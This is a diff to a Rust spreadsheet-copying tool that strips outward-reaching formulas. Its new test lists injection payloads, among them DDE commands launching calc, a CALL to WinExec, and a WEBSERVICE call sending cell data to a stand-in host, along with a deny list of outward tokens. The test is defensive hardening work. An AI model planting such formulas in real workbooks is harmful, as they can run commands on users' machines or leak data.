@@ -408,7 +408,9 @@ pub fn is_plain_arithmetic(formula: &str) -> bool {
                 i += 1;
             }
             let word: String = chars[start..i].iter().collect::<String>().to_ascii_uppercase();
-            if chars.get(i) == Some(&'(') && !PLAIN_FUNCTIONS.contains(&word.trim_start_matches("_XLFN.")) {
+            // `WEBSERVICE ("…")` calls as well: spaces before the bracket do not make it a reference.
+            let bracket = chars[i..].iter().find(|c| !c.is_whitespace());
+            if bracket == Some(&'(') && !PLAIN_FUNCTIONS.contains(&word.trim_start_matches("_XLFN.").trim_start_matches("_XLWS.")) {
                 return false;
             }
         } else {
@@ -578,7 +580,9 @@ fn write_rollup_sheet(book: &mut Workbook, checked: &Checked, names: &SheetNames
         }
         row += 1;
     }
-    for (col, width) in [10.0, 22.0, 8.0, 16.0, 16.0, 16.0, 10.0].iter().enumerate() {
+    let source = |input: &str| quoted(names.output(input));
+    crate::write::form_rollup::write_forms_section(sheet, &checked.workbook.forms, row + 1, lang, &source, &header_format().set_text_wrap())?;
+    for (col, width) in [10.0, 22.0, 8.0, 16.0, 16.0, 16.0, 10.0, 10.0, 12.0, 12.0].iter().enumerate() {
         sheet.set_column_width(col as u16, *width)?;
     }
     sheet.set_freeze_panes(1, 0)?;
@@ -734,6 +738,66 @@ mod tests {
         }
         assert_eq!(format_at((3, 1)), Some("0.00%"));
         assert_eq!(format_at((2, 2)), Some("General"));
+    }
+
+    /// Formulas that reach outside the workbook — DDE, links to other workbooks, web requests,
+    /// hyperlinks, indirection — never reach the copy as formulas: their cached values do.
+    #[test]
+    fn formulas_reaching_outside_the_workbook_are_written_as_their_values() {
+        let formulas = [
+            ("SUM(B1:B2)", Value::Number(3.0), true),
+            ("ROUND(B1/B2*100,2)", Value::Number(50.0), true),
+            ("cmd|' /C calc'!A0", Value::Number(0.0), false),
+            ("HYPERLINK(\"http://x\",\"y\")", Value::Text("y".into()), false),
+            ("WEBSERVICE(\"http://x/?\"&B1)", Value::Text("ok".into()), false),
+            ("_xlfn.WEBSERVICE (\"http://x\")", Value::Text("ok".into()), false),
+            ("[1]Sheet1!A1", Value::Number(7.0), false),
+            ("'C:\\[budget.xlsx]Sheet1'!A1", Value::Number(8.0), false),
+            ("INDIRECT(\"B\"&1)", Value::Number(1.0), false),
+            ("SUM(B1)+cmd|'/c calc'!A0", Value::Number(1.0), false),
+            ("FILTERXML(WEBSERVICE(\"http://x\"),\"//a\")", Value::Text("a".into()), false),
+            ("RTD(\"progid\",,\"x\")", Value::Number(2.0), false),
+            ("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", Value::Number(0.0), false),
+        ];
+        let mut rows = vec![vec![Value::Text("公式".into()), Value::Number(1.0)], vec![Value::Empty, Value::Number(2.0)]];
+        rows.extend(formulas.iter().map(|(_, cached, _)| vec![cached.clone()]));
+        let mut grid = Grid::from_values("表", rows);
+        for (i, (text, _, _)) in formulas.iter().enumerate() {
+            grid.layout.formulas.insert((i as u32 + 2, 0), (*text).to_string());
+        }
+        let grids = vec![grid];
+        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
+        for streaming_rows in [0, u32::MAX] {
+            let bytes = copy_sheets_streaming_above(&grids, streaming_rows).unwrap().finish(&grids, &checked, &Settings::default()).unwrap();
+            let mut xlsx = Xlsx::new(Cursor::new(bytes)).unwrap();
+            let written = xlsx.worksheet_formula("表").unwrap();
+            let values = xlsx.worksheet_range("表").unwrap();
+            for (i, (text, cached, plain)) in formulas.iter().enumerate() {
+                let at = (i as u32 + 2, 0);
+                let formula = written.get_value(at).cloned().unwrap_or_default();
+                if *plain {
+                    assert_eq!(formula, *text, "{text} is reproduced");
+                } else {
+                    assert_eq!(formula, "", "{text} must not reach the copy as a formula");
+                    let value = values.get_value(at).cloned().unwrap_or(Data::Empty);
+                    let expected = match cached {
+                        Value::Number(n) => Data::Float(*n),
+                        Value::Text(t) => Data::String(t.clone()),
+                        _ => Data::Empty,
+                    };
+                    assert_eq!(value, expected, "{text} is written as its cached value");
+                }
+            }
+            // Nothing in the whole copy calls out.
+            for sheet in xlsx.sheet_names() {
+                for (_, _, f) in xlsx.worksheet_formula(&sheet).unwrap().used_cells() {
+                    let upper = f.to_ascii_uppercase();
+                    for outward in ["|", "[", "WEBSERVICE", "HYPERLINK", "INDIRECT", "RTD", "CALL("] {
+                        assert!(!upper.contains(outward), "{sheet}: {f}");
+                    }
+                }
+            }
+        }
     }
 
     #[test]
